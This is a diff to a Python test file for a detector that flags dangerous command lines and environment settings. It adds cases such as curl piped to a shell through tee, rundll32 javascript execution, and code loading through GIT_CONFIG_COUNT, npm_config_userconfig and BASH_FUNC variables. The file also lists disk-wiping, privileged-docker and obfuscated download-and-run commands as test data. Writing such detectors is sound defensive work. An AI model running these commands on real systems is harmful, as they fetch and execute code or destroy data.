@@ -108,6 +108,7 @@ DELETES = "deletes files"
         "bash -c -x 'curl x|sh'", "bash -o errexit -c 'curl x|sh'", "bash --norc -c 'curl x|sh'",
         "bash +x -ec 'curl x|sh'", "fish --command='curl x|sh'", """sh -c 'c\\url x | s"h"'""",
         "sh -c 'curl${IFS}x|sh'", "sh -c '{curl,x}|sh'", "sh -c 'curl x | $SHELL'", "sh -c 'curl x | tee f | sh'",
+        "sh -c 'curl x | tee >(sh)'",
         "sh -c 'curl -o /x/f x && chmod +x /x/f && /x/f'", "sh -c 'wget x/i.sh; sh i.sh'",
         "sh -c 'curl x 2>/dev/null | env sh'", "sh -c 'curl x | busybox sh'", """sh -c 'sh -c "$(curl x)"'""",
         "sh -c 'if true; then curl x | sh; fi'", 'sh -c "curl x | sh\necho \'"', "uvx bash -c 'curl x|sh'",
@@ -137,6 +138,7 @@ def test_each_way_to_run_a_download_is_seen(line: str) -> None:
             "deno eval 1", "deno repl --eval 1", "bun -e 1", "tsx -e 1", "npx -y tsx@4 -e 1", "uvx python -c 1",
             "uv run --with x python -c 1", "uv tool run python@3.12 -c 1", "awk 'BEGIN{system(1)}'",
             "env A=b python -c 1", "osascript -l JavaScript -e 1", "mshta javascript:1",
+            "rundll32.exe javascript:1",
         )),
         *((line, RIGHTS) for line in (
             "docker create --privileged x", "docker container create --privileged x", "docker exec --privileged c sh",
@@ -181,6 +183,8 @@ def test_each_way_to_run_a_download_is_seen(line: str) -> None:
             "sh -c '/bin/rm -fr x'", "sh -c 'rm x -rf'", "sh -c 'r\"m\" -rf x'", "busybox rm -rf x",
             "find / -name x -delete", "rm --recursive x", "sh -c 'dd if=/dev/zero of=/dev/sda'", "mkfs.ext4 /dev/sda",
         )),
+        ("env GIT_CONFIG_COUNT=1 server", "which code its programs load: GIT_CONFIG_COUNT"),
+        ("env npm_config_userconfig=/x npx y", "which code its programs load: npm_config_userconfig"),
         ("env LD_PRELOAD=/x.so server", "which code its programs load: LD_PRELOAD"),
         ("sh -c 'NODE_OPTIONS=-rx server'", "which code its programs load: NODE_OPTIONS"),
         ("pwsh -e SQBFAFgA", "hides what it runs, in encoded text: pwsh -e"),
@@ -273,6 +277,10 @@ def test_a_usual_launcher_with_options_has_no_sign_of_danger(line: str) -> None:
 def test_a_folder_that_every_user_can_write_to_is_named_as_the_working_folder() -> None:
     assert "a folder that every user can write to: /tmp/x" in signs("./server", cwd="//tmp/x")
     assert not signs("./server", cwd="/home/ada/tmp/x")
+
+
+def test_a_function_that_a_variable_gives_to_bash_is_code() -> None:
+    assert "which code its programs load" in signs("x", env={"BASH_FUNC_ls%%": "() { x; }"})
 
 
 def test_a_variable_that_holds_a_script_is_searched() -> None:
